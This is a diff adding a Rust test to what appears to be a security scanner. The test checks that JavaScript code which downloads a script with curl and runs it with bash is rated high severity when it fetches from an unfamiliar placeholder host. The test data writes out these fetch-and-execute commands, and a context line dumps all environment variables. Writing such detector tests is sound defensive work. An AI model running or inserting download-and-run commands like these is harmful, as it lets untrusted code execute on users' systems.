@@ -428,3 +428,20 @@ fn a_variable_of_an_unknown_name_is_not_the_whole_environment() {
     };
     assert!(!python("os.environ[n]") && python("{k: os.environ[k] for k in os.environ}"));
 }
+
+#[test]
+fn an_installer_that_was_put_into_a_file_is_known_by_its_address() {
+    use crate::model::Severity;
+    let weighs = |before: &str, address: &str| {
+        let code = format!(
+            "const {{ execFileSync }} = require('child_process');\nfetch('https://files.invalid/news');\n{before}\n\
+             execFileSync('curl', ['-fsSL', '{address}', '-o', '/tmp/inert-install.sh']);\nexecFileSync('bash', ['/tmp/inert-install.sh']);\n"
+        );
+        weight(Language::JavaScript, &code, "flow-download-run")
+    };
+    assert!(weighs("", "https://opencode.ai/install") <= Some(Severity::Medium));
+    assert!(weighs("", "https://files.invalid/install") >= Some(Severity::High));
+    // Somebody else's beside it, in the same file.
+    let other = "execFileSync('curl', ['-fsSL', 'https://files.invalid/x', '-o', '/tmp/inert-install.sh']);";
+    assert!(weighs(other, "https://opencode.ai/install") >= Some(Severity::High));
+}
